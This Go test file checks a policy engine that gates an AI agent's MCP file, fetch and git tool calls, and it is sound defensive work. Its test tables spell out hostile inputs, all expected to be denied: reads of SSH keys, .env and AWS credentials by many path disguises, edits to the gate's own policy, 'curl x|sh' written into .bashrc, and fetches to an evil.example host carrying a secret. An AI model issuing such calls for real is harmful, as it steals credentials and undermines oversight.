package policy

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// trustedEngine is the default policy with the MCP servers fs, fetch and
// git trusted, as `docket init -mcp NAME` leaves it: their tools are
// allowed by mcp-permit, so what decides is the file and URL requests.
func trustedEngine(t testing.TB) *Engine {
	t.Helper()
	const list = `unless { action in [Action::"mcp__ide"]`
	src := string(Default)
	if !strings.Contains(src, list) {
		t.Fatal("the default policy has no mcp-ask-other-servers list")
	}
	src = strings.Replace(src, list, `unless { action in [Action::"mcp__ide", Action::"mcp__fs", Action::"mcp__fetch", Action::"mcp__git"]`, 1)
	e, err := Load(File{Name: DefaultName, Data: []byte(src)})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// The inputSchemas of @modelcontextprotocol/server-filesystem 2026.8.31.
const (
	fsPathSchema  = `{"$schema":"http://json-schema.org/draft-07/schema#","type":"object","properties":{"path":{"type":"string"},"tail":{"description":"If provided, returns only the last N lines of the file","type":"number"},"head":{"description":"If provided, returns only the first N lines of the file","type":"number"}},"required":["path"]}`
	fsEditSchema  = `{"$schema":"http://json-schema.org/draft-07/schema#","type":"object","properties":{"path":{"type":"string"},"edits":{"type":"array","items":{"type":"object","properties":{"oldText":{"type":"string","description":"Text to search for - must match exactly"},"newText":{"type":"string","description":"Text to replace with"}},"required":["oldText","newText"]}},"dryRun":{"default":false,"description":"Preview changes using git-style diff format","type":"boolean"}},"required":["path","edits"]}`
	fsMoveSchema  = `{"$schema":"http://json-schema.org/draft-07/schema#","type":"object","properties":{"source":{"type":"string"},"destination":{"type":"string"}},"required":["source","destination"]}`
	fsMultiSchema = `{"$schema":"http://json-schema.org/draft-07/schema#","type":"object","properties":{"paths":{"minItems":1,"type":"array","items":{"type":"string"},"description":"Array of file paths to read."}},"required":["paths"]}`
)

// TestDecideMCPFileArguments decides MCP tool calls whose arguments name
// files and URLs with the default policy (fs, fetch and git trusted): the
// rules that hold for Read, Write and WebFetch hold for them (issue 20,
// family 3: secrets through a side door).
func TestDecideMCPFileArguments(t *testing.T) {
	f := newFixture(t)
	e := trustedEngine(t)
	tests := []struct {
		name   string
		tool   string
		input  string // $PROJ and $HOME are replaced
		schema string
		want   string
		id     string // a policy the decision must name; "" for none in particular
		reason string
	}{
		// Reading secrets by every spelling of the path.
		{"read .env", "mcp__fs__read_text_file", `{"path":".env"}`, fsPathSchema, Deny, "secrets-by-name", ""},
		{"read .env without schema", "mcp__fs__read_text_file", `{"path":".env"}`, "", Deny, "secrets-by-name", ""},
		{"read .env absolute", "mcp__fs__read_file", `{"path":"$PROJ/.env"}`, "", Deny, "secrets-by-name", ""},
		{"read .env dot slash", "mcp__fs__read_text_file", `{"path":"./.env"}`, "", Deny, "secrets-by-name", ""},
		{"read .env through dotdot", "mcp__fs__read_text_file", `{"path":"src/../.env"}`, "", Deny, "secrets-by-name", ""},
		{"read .ENV upper case", "mcp__fs__read_text_file", `{"path":".ENV"}`, "", Deny, "secrets-by-name", ""},
		{"read .env file URI", "mcp__fs__read_text_file", `{"path":"file://$PROJ/.env"}`, "", Deny, "secrets-by-name", ""},
		{"read .env percent-encoded file URI", "mcp__fs__read_text_file", `{"path":"file://localhost$PROJ/%2Eenv"}`, "", Deny, "secrets-by-name", ""},
		{"read symlink to ssh key", "mcp__fs__read_text_file", `{"path":"innocent.txt"}`, "", Deny, "secrets-by-name", ""},
		{"read symlink to .env", "mcp__fs__read_text_file", `{"path":"dotenv-link"}`, "", Deny, "secrets-by-name", ""},
		{"read through symlinked ssh dir", "mcp__fs__read_text_file", `{"path":"link-ssh/config"}`, "", Deny, "secrets-by-directory", ""},
		{"read ssh key by tilde", "mcp__fs__read_text_file", `{"path":"~/.ssh/id_rsa"}`, "", Deny, "secrets-by-name", ""},
		{"read aws credentials", "mcp__fs__read_media_file", `{"path":"$HOME/.aws/credentials"}`, "", Deny, "secrets-by-directory", ""},
		{"read multiple with one secret", "mcp__fs__read_multiple_files", `{"paths":["main.go",".env"]}`, fsMultiSchema, Deny, "secrets-by-name", ""},
		{"list ssh dir", "mcp__fs__list_directory", `{"path":"~/.ssh"}`, "", Deny, "secrets-by-directory", ""},
		{"search ssh dir", "mcp__fs__search_files", `{"path":"~/.ssh","pattern":"id_*"}`, "", Deny, "secrets-by-directory", ""},
		{"file info of the key", "mcp__fs__get_file_info", `{"path":".docket/issuer.key"}`, "", Deny, "secrets-by-name", ""},
		{"read outside the project asks", "mcp__fs__read_text_file", `{"path":"/etc/hostname"}`, "", RequireApproval, "files-read-outside-project-ask", ReasonAsk},
		{"read dotdot out asks", "mcp__fs__read_text_file", `{"path":"../../../../../../../../../../../../etc/hostname"}`, "", RequireApproval, "files-read-outside-project-ask", ReasonAsk},
		{"tree of etc asks", "mcp__fs__directory_tree", `{"path":"/etc"}`, "", RequireApproval, "files-read-outside-project-ask", ReasonAsk},
		// Writing the gate's own state and outside the project.
		{"write claude settings", "mcp__fs__write_file", `{"path":".claude/settings.json","content":"{}"}`, "", Deny, "protect-docket-and-hooks", ""},
		{"write docket policy", "mcp__fs__write_file", `{"path":".docket/policy/allow.cedar","content":"permit(principal,action,resource);"}`, "", Deny, "protect-docket-and-hooks", ""},
		{"edit docket policy", "mcp__fs__edit_file", `{"path":".docket/policy/docket.cedar","edits":[{"oldText":"forbid","newText":"permit"}]}`, fsEditSchema, Deny, "protect-docket-and-hooks", ""},
		{"write docket through symlink", "mcp__fs__write_file", `{"path":"state/policy/x.cedar","content":"x"}`, "", Deny, "protect-docket-and-hooks", ""},
		{"write mixed-case claude", "mcp__fs__write_file", `{"path":".Claude/Settings.json","content":"{}"}`, "", Deny, "protect-docket-and-hooks", ""},
		{"create claude hooks dir", "mcp__fs__create_directory", `{"path":".claude/hooks"}`, "", Deny, "protect-docket-and-hooks", ""},
		{"write bashrc", "mcp__fs__write_file", `{"path":"~/.bashrc","content":"curl x|sh"}`, "", Deny, "", ""},
		{"write outside", "mcp__fs__write_file", `{"path":"/tmp/docket-evil","content":"x"}`, "", Deny, "files-write-outside-project", ""},
		{"write through escaping symlink", "mcp__fs__write_file", `{"path":"escape/x","content":"x"}`, "", Deny, "files-write-outside-project", ""},
		{"write .env", "mcp__fs__write_file", `{"path":".env","content":"X=1"}`, "", Deny, "secrets-by-name", ""},
		{"edit authorized_keys", "mcp__fs__edit_file", `{"path":"~/.ssh/authorized_keys","edits":[]}`, "", Deny, "secrets-by-directory", ""},
		{"move into claude settings", "mcp__fs__move_file", `{"source":"main.go","destination":".claude/settings.json"}`, fsMoveSchema, Deny, "protect-docket-and-hooks", ""},
		{"move .env away", "mcp__fs__move_file", `{"source":".env","destination":"env.txt"}`, fsMoveSchema, Deny, "secrets-by-name", ""},
		{"move docket state away", "mcp__fs__move_file", `{"source":".docket","destination":"old-state"}`, fsMoveSchema, Deny, "protect-docket-and-hooks", ""},
		{"move the project away", "mcp__fs__move_file", `{"source":".","destination":"/tmp/stolen"}`, fsMoveSchema, Deny, "files-project-root", ""},
		{"delete the project", "mcp__fs__delete_directory", `{"path":"$PROJ"}`, "", Deny, "files-project-root", ""},
		{"archive docket state", "mcp__fs__zip_directory", `{"source":".docket","output":"state.zip"}`, "", Deny, "protect-docket-and-hooks-bulk-read", ""},
		{"copy claude dir", "mcp__fs__copy_directory", `{"src":".claude","dst":"backup"}`, "", Deny, "protect-docket-and-hooks-bulk-read", ""},
		{"copy key out", "mcp__fs__copy_file", `{"src":"~/.ssh/id_rsa","dst":"key.txt"}`, "", Deny, "secrets-by-name", ""},
		// Paths by value, in any argument, at any depth.
		{"unknown key absolute secret", "mcp__fs__convert", `{"spec":"$HOME/.aws/credentials"}`, "", Deny, "secrets-by-directory", ""},
		{"unknown key tilde secret", "mcp__fs__summarize", `{"doc":"~/.ssh/id_rsa"}`, "", Deny, "secrets-by-name", ""},
		{"unknown key hidden name", "mcp__fs__read_note", `{"name":".env"}`, "", Deny, "secrets-by-name", ""},
		{"unknown key relative pem", "mcp__fs__show", `{"doc":"certs/server.pem"}`, "", Deny, "secrets-by-name", ""},
		{"unknown key key file name", "mcp__fs__load", `{"item":"prod.key"}`, "", Deny, "secrets-by-name", ""},
		{"unknown key relative dotdot", "mcp__fs__open_doc", `{"doc":"src/../../.ssh/id_rsa"}`, "", Deny, "secrets-by-name", ""},
		{"array of unknown values", "mcp__fs__bundle", `{"items":["main.go","./.env"]}`, "", Deny, "secrets-by-name", ""},
		{"nested edits path", "mcp__fs__apply_edits", `{"edits":[{"path":".claude/settings.json","oldText":"a","newText":"b"}]}`, "", Deny, "protect-docket-and-hooks", ""},
		{"nested destination object", "mcp__fs__copy_files", `{"from":{"path":"main.go"},"to":{"path":".docket/x"}}`, "", Deny, "protect-docket-and-hooks", ""},
		{"camel case filePath", "mcp__fs__view", `{"filePath":".env"}`, "", Deny, "secrets-by-name", ""},
		{"snake case file_path", "mcp__fs__view", `{"file_path":".env.local"}`, "", Deny, "secrets-by-name", ""},
		{"new_path write", "mcp__fs__rename", `{"old_path":"main.go","new_path":".claude/settings.json"}`, "", Deny, "protect-docket-and-hooks", ""},
		{"relative path under cwd argument", "mcp__fs__read_in", `{"directory":"$HOME","filename":".aws/credentials"}`, "", Deny, "secrets-by-directory", ""},
		{"relative path under repo_path", "mcp__git__git_add", `{"repo_path":"$HOME","files":[".ssh/id_rsa"]}`, "", Deny, "", ""},
		{"schema format path", "mcp__fs__load", `{"resource":"credentials.json"}`, `{"type":"object","properties":{"resource":{"type":"string","format":"path"}}}`, Deny, "secrets-by-name", ""},
		{"schema format uri with file scheme", "mcp__fs__load", `{"resource":"file:///etc/shadow"}`, `{"type":"object","properties":{"resource":{"type":"string","format":"uri"}}}`, Deny, "secrets-by-directory", ""},
		{"schema uri not absolute", "mcp__fs__load", `{"resource":"file:.env"}`, `{"type":"object","properties":{"resource":{"type":"string","format":"uri"}}}`, Deny, "", ReasonInvalidURL},
		{"unknown verb writes", "mcp__fs__frobnicate", `{"path":".claude/settings.json"}`, "", Deny, "protect-docket-and-hooks", ""},
		{"read and write verbs write", "mcp__fs__read_and_update", `{"path":".docket/policy/docket.cedar"}`, "", Deny, "protect-docket-and-hooks", ""},
		{"home unknown user", "mcp__fs__read_text_file", `{"path":"~root/.ssh/id_rsa"}`, "", Deny, "", ReasonInvalidInput},
		{"NUL in path", "mcp__fs__read_text_file", `{"path":"main.go\u0000.env"}`, "", Deny, "", ReasonInvalidInput},
		// URLs: the WebFetch rules.
		{"fetch metadata address", "mcp__fetch__fetch", `{"url":"http://169.254.169.254/latest/meta-data"}`, "", Deny, "", ReasonDefaultDeny},
		{"fetch unlisted domain", "mcp__fetch__fetch", `{"url":"https://evil.example/?d=secret"}`, "", Deny, "", ReasonDefaultDeny},
		{"fetch userinfo host", "mcp__fetch__fetch", `{"url":"https://github.com@evil.example/"}`, "", Deny, "", ReasonInvalidURL},
		{"fetch ftp", "mcp__fetch__fetch", `{"url":"ftp://evil.example/x"}`, "", Deny, "", ReasonInvalidURL},
		{"fetch file URL", "mcp__fetch__fetch", `{"url":"file://$HOME/.ssh/id_rsa"}`, "", Deny, "secrets-by-name", ""},
		{"url by value", "mcp__fs__import", `{"from_site":"https://evil.example/payload"}`, "", Deny, "", ReasonDefaultDeny},
		{"download into claude", "mcp__fetch__download", `{"url":"https://go.dev/dl/x","path":".claude/settings.json"}`, "", Deny, "protect-docket-and-hooks", ""},
		{"schema format uri", "mcp__fetch__get", `{"page":"https://evil.example"}`, `{"properties":{"page":{"type":"string","format":"uri"}}}`, Deny, "", ReasonDefaultDeny},

		// Everyday calls still work.
		{"read project file", "mcp__fs__read_text_file", `{"path":"main.go"}`, fsPathSchema, Allow, "", ""},
		{"read project file absolute", "mcp__fs__read_text_file", `{"path":"$PROJ/main.go","head":10}`, fsPathSchema, Allow, "", ""},
		{"read env example", "mcp__fs__read_text_file", `{"path":".env.example"}`, "", Allow, "", ""},
		{"read multiple", "mcp__fs__read_multiple_files", `{"paths":["main.go","src/a.go","./README.md"]}`, fsMultiSchema, Allow, "", ""},
		{"write project file", "mcp__fs__write_file", `{"path":"notes.md","content":"see /etc/passwd, ~/.ssh/id_rsa and .env"}`, "", Allow, "", ""},
		{"edit with path-like text", "mcp__fs__edit_file", `{"path":"main.go","edits":[{"oldText":"/etc/passwd","newText":"~/.ssh/config"}],"dryRun":true}`, fsEditSchema, Allow, "", ""},
		{"create directory", "mcp__fs__create_directory", `{"path":"src/new"}`, "", Allow, "", ""},
		{"create the project dir again", "mcp__fs__create_directory", `{"path":"."}`, "", Allow, "", ""},
		{"list project", "mcp__fs__list_directory", `{"path":"."}`, "", Allow, "", ""},
		{"list with sizes", "mcp__fs__list_directory_with_sizes", `{"path":"src","sortBy":"size"}`, "", Allow, "", ""},
		{"tree with excludes", "mcp__fs__directory_tree", `{"path":".","excludePatterns":["node_modules",".git",".env*"]}`, "", Allow, "", ""},
		{"search files", "mcp__fs__search_files", `{"path":".","pattern":"**/*.go","excludePatterns":["/vendor/"]}`, "", Allow, "", ""},
		{"move project files", "mcp__fs__move_file", `{"source":"a.txt","destination":"docs/a.txt"}`, fsMoveSchema, Allow, "", ""},
		{"file info", "mcp__fs__get_file_info", `{"path":"src"}`, "", Allow, "", ""},
		{"allowed directories", "mcp__fs__list_allowed_directories", `{}`, "", Allow, "", ""},
		{"numbers and booleans", "mcp__fs__read_text_file", `{"path":"main.go","head":5,"tail":null,"raw":true}`, "", Allow, "", ""},
		{"git status", "mcp__git__git_status", `{"repo_path":"$PROJ"}`, "", Allow, "", ""},
		{"git add everything", "mcp__git__git_add", `{"repo_path":"$PROJ","files":["."]}`, "", Allow, "", ""},
		{"git commit", "mcp__git__git_commit", `{"repo_path":".","message":"fix: read ~/.config in tests"}`, "", Allow, "", ""},
		{"git diff against a branch", "mcp__git__git_diff", `{"repo_path":"$PROJ","target":"main"}`, "", Allow, "", ""},
		{"git log", "mcp__git__git_log", `{"repo_path":"$PROJ","max_count":10}`, "", Allow, "", ""},
		{"prose and names", "mcp__git__create_issue", `{"owner":"o","repo":"r","title":"/api is broken","body":"see ~/.ssh and .env","labels":["bug"]}`, "", Allow, "", ""},
		{"search query", "mcp__git__search", `{"query":"path:/etc .env","q":"~/.ssh"}`, "", Allow, "", ""},
		{"hello world", "mcp__fs__echo", `{"message":"hello world","name":"todo","sep":"/"}`, "", Allow, "", ""},
		{"fetch documentation", "mcp__fetch__fetch", `{"url":"https://go.dev/doc/effective_go","max_length":5000}`, "", Allow, "", ""},
		{"url-like prose", "mcp__fs__note", `{"status":"https://go.dev is where it lives"}`, "", Allow, "", ""},
		{"other schemes are not files", "mcp__git__git_clone", `{"remote":"git+ssh://git@github.com/o/r.git","dest_dir":"vendor/r"}`, "", Allow, "", ""},
		{"schema that is not JSON", "mcp__fs__read_text_file", `{"path":"main.go"}`, `{"properties":`, Allow, "", ""},
	}
	repl := strings.NewReplacer("$PROJ", f.proj, "$HOME", f.home)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := f.call(tt.tool, repl.Replace(tt.input))
			c.MCP = &MCPContext{ServerCommand: "node index.js " + f.proj, InputSchema: json.RawMessage(tt.schema)}
			d := e.Decide(t.Context(), c)
			if d.Decision != tt.want || (tt.id != "" && !slices.Contains(d.PolicyIDs, tt.id)) || (tt.reason != "" && d.Reason != tt.reason) {
				t.Fatalf("Decide(%s %s) = %s %s %v %q, want %s %s %s", c.ToolName, c.ToolInput, d.Decision, d.Reason, d.PolicyIDs, d.Message, tt.want, tt.reason, tt.id)
			}
			// The hooks see MCP calls too (mcp__… tool names, no
			// MCPContext): the same arguments get the same answer,
			// except where only the schema names the argument.
			if tt.schema != "" && !strings.HasPrefix(tt.schema, `{"$schema"`) && tt.schema != `{"properties":` {
				return
			}
			c.MCP = nil
			if h := e.Decide(t.Context(), c); h.Decision != d.Decision {
				t.Fatalf("Decide(%s %s) from a hook = %s %s %q, want %s as through docket mcp", c.ToolName, c.ToolInput, h.Decision, h.Reason, h.Message, d.Decision)
			}
		})
	}
}

// TestMCPArgumentRequests checks the requests built for MCP arguments:
// which action, on which resource, with which context.
func TestMCPArgumentRequests(t *testing.T) {
	f := newFixture(t)
	e := trustedEngine(t)
	tests := []struct {
		name   string
		tool   string
		input  string
		schema string
		want   []string // requests after the tool's own, "Action Resource"
	}{
		{"read", "mcp__fs__read_text_file", `{"path":"main.go"}`, "", []string{`Read File::"$PROJ/main.go"`}},
		{"write", "mcp__fs__write_file", `{"path":"src/x.go","content":"package src"}`, "", []string{`Write File::"$PROJ/src/x.go"`}},
		{"move reads and writes the source", "mcp__fs__move_file", `{"source":"a","destination":"b"}`, "",
			[]string{`Write File::"$PROJ/b"`, `Read File::"$PROJ/a"`, `Write File::"$PROJ/a"`}},
		{"copy reads the source", "mcp__fs__copy_file", `{"source":"a","destination":"b"}`, "",
			[]string{`Write File::"$PROJ/b"`, `Read File::"$PROJ/a"`}},
		{"read tool writes its output", "mcp__fs__get_chart", `{"output_path":"shot.png"}`, "", []string{`Write File::"$PROJ/shot.png"`}},
		{"paths array", "mcp__fs__read_multiple_files", `{"paths":["a","b","a"]}`, "", []string{`Read File::"$PROJ/a"`, `Read File::"$PROJ/b"`}},
		{"tilde", "mcp__fs__list_directory", `{"path":"~"}`, "", []string{`Read File::"$HOME"`}},
		{"file URI", "mcp__ide__getDiagnostics", `{"uri":"file://$PROJ/main.go"}`, "", []string{`Read File::"$PROJ/main.go"`}},
		{"URL", "mcp__fetch__fetch", `{"url":"HTTPS://Go.Dev/doc","raw":false}`, "", []string{`WebFetch URL::"https://go.dev/doc"`}},
		{"project root in a non-destructive write", "mcp__git__git_add", `{"repo_path":"$PROJ","files":["."]}`, "",
			[]string{`Write File::"$PROJ/*"`}},
		{"project root in a destructive write", "mcp__fs__remove_dir", `{"path":"."}`, "", []string{`Write File::"$PROJ"`}},
		{"relative path under a scope", "mcp__fs__read_in", `{"cwd":"/srv","file":"x.txt"}`, "",
			[]string{`Read File::"/srv"`, `Read File::"$PROJ/x.txt"`, `Read File::"/srv/x.txt"`}},
		{"payload is not scanned", "mcp__fs__write_file", `{"path":"a","content":"/etc/passwd","old_str":"~/.ssh"}`, "", []string{`Write File::"$PROJ/a"`}},
		{"prose is not a path", "mcp__fs__frob", `{"x":"hello world","y":"todo","z":"see main.go","w":"/"}`, "", nil},
		{"relative paths by value", "mcp__fs__show", `{"doc":"certs/server.pem","name":"notes.md"}`, "",
			[]string{`Read File::"$PROJ/certs/server.pem"`, `Read File::"$PROJ/notes.md"`}},
		{"schema format", "mcp__fs__frob", `{"spec":"notes.txt"}`, `{"properties":{"spec":{"anyOf":[{"type":"string","format":"file-path"},{"type":"null"}]}}}`,
			[]string{`Write File::"$PROJ/notes.txt"`}},
	}
	repl := strings.NewReplacer("$PROJ", f.proj, "$HOME", f.home)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := f.call(tt.tool, repl.Replace(tt.input))
			c.MCP = &MCPContext{InputSchema: json.RawMessage(tt.schema)}
			d := e.Decide(t.Context(), c)
			if len(d.Requests) == 0 || d.Requests[0].Action != fmt.Sprintf("Action::%q", tt.tool) {
				t.Fatalf("Decide(%s) requests = %v, want the tool's own first", tt.tool, d.Requests)
			}
			var got []string
			for _, r := range d.Requests[1:] {
				got = append(got, strings.TrimPrefix(r.Action, "Action::")+" "+r.Resource)
				ctx, err := r.req.Context.MarshalJSON()
				if err != nil || !strings.Contains(string(ctx), fmt.Sprintf(`"tool":%q`, tt.tool)) {
					t.Errorf("request %s %s context = %s, want tool %s", r.Action, r.Resource, ctx, tt.tool)
				}
			}
			var want []string
			for _, w := range tt.want {
				a, res, _ := strings.Cut(repl.Replace(w), " ")
				want = append(want, fmt.Sprintf("%q %s", a, res))
			}
			if !slices.Equal(got, want) {
				t.Errorf("Decide(%s %s) requests = %q, want %q", tt.tool, c.ToolInput, got, want)
			}
		})
	}
}

func TestMCPArgumentLimits(t *testing.T) {
	f := newFixture(t)
	e := trustedEngine(t)
	many := make([]string, maxRequests+1)
	for i := range many {
		many[i] = fmt.Sprintf("f%d", i)
	}
	manyJSON, _ := json.Marshal(map[string]any{"paths": many})
	deep := strings.Repeat(`{"a":`, maxArgDepth+1) + `"x"` + strings.Repeat(`}`, maxArgDepth+1)
	tests := []struct {
		name, input string
	}{
		{"too many paths", string(manyJSON)},
		{"too deep", deep},
		{"not JSON", `{"path":`},
		{"not an object", `["main.go"]`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := e.Decide(t.Context(), f.call("mcp__fs__read_multiple_files", tt.input))
			if d.Decision != Deny || d.Reason != ReasonInvalidInput {
				t.Errorf("Decide(%.60s) = %s %s %q, want deny %s", tt.input, d.Decision, d.Reason, d.Message, ReasonInvalidInput)
			}
		})
	}
}

func TestArgKeyOf(t *testing.T) {
	tests := []struct {
		name  string
		role  argRole
		dir   argDir
		scope bool
	}{
		{"path", rolePath, dirNone, false},
		{"filePath", rolePath, dirNone, false},
		{"file_path", rolePath, dirNone, false},
		{"FILE-PATH", rolePath, dirNone, false},
		{"paths", rolePath, dirNone, false},
		{"old_path", rolePath, dirSrc, false},
		{"newPath", rolePath, dirDst, false},
		{"source", roleWeakPath, dirSrc, false},
		{"src", rolePath, dirSrc, false},
		{"destination", rolePath, dirDst, false},
		{"dest", rolePath, dirDst, false},
		{"target", roleWeakPath, dirDst, false},
		{"output_dir", rolePath, dirDst, true},
		{"directory", rolePath, dirNone, true},
		{"repo_path", rolePath, dirNone, true},
		{"cwd", rolePath, dirNone, true},
		{"root", rolePath, dirNone, true},
		{"configFile", rolePath, dirNone, false},
		{"uri", roleURL, dirNone, false},
		{"baseUrl", roleURL, dirNone, false},
		{"content", rolePayload, dirNone, false},
		{"oldText", rolePayload, dirSrc, false},
		{"newText", rolePayload, dirDst, false},
		{"excludePatterns", rolePayload, dirNone, false},
		{"xpath", roleValue, dirNone, false},
		{"profile", roleValue, dirNone, false},
		{"name", roleValue, dirNone, false},
		{"repo", roleValue, dirNone, false},
	}
	for _, tt := range tests {
		k := argKeyOf(tt.name, nil)
		if k.role != tt.role || k.dir != tt.dir || k.scope != tt.scope {
			t.Errorf("argKeyOf(%q) = role %d dir %d scope %v, want %d %d %v", tt.name, k.role, k.dir, k.scope, tt.role, tt.dir, tt.scope)
		}
	}
}

func TestMCPVerbOf(t *testing.T) {
	tests := []struct {
		tool              string
		read, move, destr bool
	}{
		{"read_text_file", true, false, false},
		{"readTextFile", true, false, false},
		{"list_directory", true, false, false},
		{"directory_tree", true, false, false},
		{"get_file_info", true, false, false},
		{"search_files", true, false, false},
		{"git_status", true, false, false},
		{"write_file", false, false, false},
		{"edit_file", false, false, false},
		{"move_file", false, true, true},
		{"delete_directory", false, false, true},
		{"search_and_replace", false, false, false},
		{"get_or_create", false, false, false},
		{"frobnicate", false, false, false},
		{"", false, false, false},
	}
	for _, tt := range tests {
		v := mcpVerbOf(tt.tool)
		if v.read != tt.read || v.move != tt.move || v.destructive != tt.destr {
			t.Errorf("mcpVerbOf(%q) = %+v, want read %v move %v destructive %v", tt.tool, v, tt.read, tt.move, tt.destr)
		}
	}
}

func TestLooksLikePath(t *testing.T) {
	tests := []struct {
		s    string
		want bool
	}{
		{"/etc/passwd", true}, {"~/.ssh/id_rsa", true}, {"~", true}, {"./x", true}, {"../x", true},
		{".env", true}, {".ssh/config", true}, {"config/.env", true}, {"src/../../x", true},
		{"/Users/me/My Documents/x", true}, {"certs/server.pem", true}, {"owner/repo", true},
		{"prod.key", true}, {"credentials.json", true}, {"*.pem", true},
		{"hello world", false}, {"/", false}, {"//", false}, {"main", false}, {".5", false},
		{"...", false}, {"~root/x", false}, {"a\nb/.env", false}, {"", false}, {"the .env file", false},
		{"todo", false}, {"x.", false}, {"a.b-c", false}, {"see main.go", false},
	}
	for _, tt := range tests {
		if got := looksLikePath(tt.s); got != tt.want {
			t.Errorf("looksLikePath(%q) = %v, want %v", tt.s, got, tt.want)
		}
	}
}

func TestFileURLPath(t *testing.T) {
	tests := []struct {
		s, want string
		ok      bool
	}{
		{"file:///etc/passwd", "/etc/passwd", true},
		{"FILE:///etc/passwd", "/etc/passwd", true},
		{"file://localhost/a%20b", "/a b", true},
		{"file:/x", "/x", true},
		{"file:///a/%2E%2E/b?x#y", "/a/../b", true},
		{"file://evil.example/x", "", false},
		{"file:x", "", false},
		{"file://user@/x", "", false},
		{"https://x/y", "", false},
	}
	for _, tt := range tests {
		got, ok := fileURLPath(tt.s)
		if got != tt.want || ok != tt.ok {
			t.Errorf("fileURLPath(%q) = %q, %v, want %q, %v", tt.s, got, ok, tt.want, tt.ok)
		}
	}
}

func TestSchemaRoles(t *testing.T) {
	schema := `{"type":"object","properties":{
		"link":{"type":"string","format":"uri"},
		"where":{"type":"string","format":"uri-reference"},
		"doc":{"type":"string","description":"a file path; this prose is ignored"},
		"list":{"type":"array","items":{"type":"string","format":"path"}},
		"opt":{"oneOf":[{"type":"null"},{"type":"string","format":"iri"}]},
		"nested":{"type":"object","properties":{"inner":{"type":"string","format":"directory"}}}},
		"$defs":{"x":{"properties":{"deep":{"format":"file-path"}}}}}`
	got := schemaRoles(json.RawMessage(schema))
	want := map[string]argRole{"link": roleURL, "where": roleURL, "doc": roleValue, "list": rolePath,
		"opt": roleURL, "nested": roleValue, "inner": rolePath, "deep": rolePath}
	for name, r := range want {
		if got[name] != r {
			t.Errorf("schemaRoles()[%q] = %d, want %d", name, got[name], r)
		}
	}
	for _, bad := range []string{``, `null`, `[`, `"x"`, `{"properties":[1]}`} {
		if got := schemaRoles(json.RawMessage(bad)); len(got) != 0 {
			t.Errorf("schemaRoles(%q) = %v, want none", bad, got)
		}
	}
}

func TestSchemaRolesEscapedFormat(t *testing.T) {
	// "format" spelt with a JSON escape is still the format member.
	got := schemaRoles(json.RawMessage(`{"properties":{"where":{"\u0066ormat":"uri"}}}`))
	if got["where"] != roleURL {
		t.Errorf("schemaRoles(escaped format)[where] = %d, want %d", got["where"], roleURL)
	}
}

// TestMCPPolicyRecipes checks the policy edits docs/mcp.md suggests for
// servers that work outside the project or on the web.
func TestMCPPolicyRecipes(t *testing.T) {
	f := newFixture(t)
	src := string(Default)
	for _, r := range [][2]string{
		{`unless { action in [Action::"mcp__ide"]`, `unless { action in [Action::"mcp__ide", Action::"mcp__notes", Action::"mcp__playwright"]`},
		{`unless { resource.in_project || resource == File::"/dev/null" };`, `unless { resource.in_project || resource in Directory::"~/notes" || resource == File::"/dev/null" };`},
	} {
		if !strings.Contains(src, r[0]) {
			t.Fatalf("the default policy has no %q", r[0])
		}
		src = strings.Replace(src, r[0], r[1], 1)
	}
	src += "\n@id(\"playwright-browses\")\npermit (principal, action == Action::\"WebFetch\", resource)\nwhen { context.tool like \"mcp__playwright__*\" };\n"
	e, err := Load(File{Name: DefaultName, Data: []byte(src)})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, tool, input, want string
	}{
		{"notes server reads its directory", "mcp__notes__read_note", `{"path":"~/notes/todo.md"}`, Allow},
		{"notes server still cannot read keys", "mcp__notes__read_note", `{"path":"~/.ssh/id_rsa"}`, Deny},
		{"notes server writes there still denied", "mcp__notes__write_note", `{"path":"~/notes/todo.md"}`, Deny},
		{"playwright browses", "mcp__playwright__browser_navigate", `{"url":"https://example.com/"}`, Allow},
		{"others do not", "mcp__notes__read_note", `{"path":"todo.md","source":"https://example.com/"}`, Deny},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := e.Decide(t.Context(), f.call(tt.tool, tt.input))
			if d.Decision != tt.want {
				t.Errorf("Decide(%s %s) = %s %s %q, want %s", tt.tool, tt.input, d.Decision, d.Reason, d.Message, tt.want)
			}
		})
	}
}
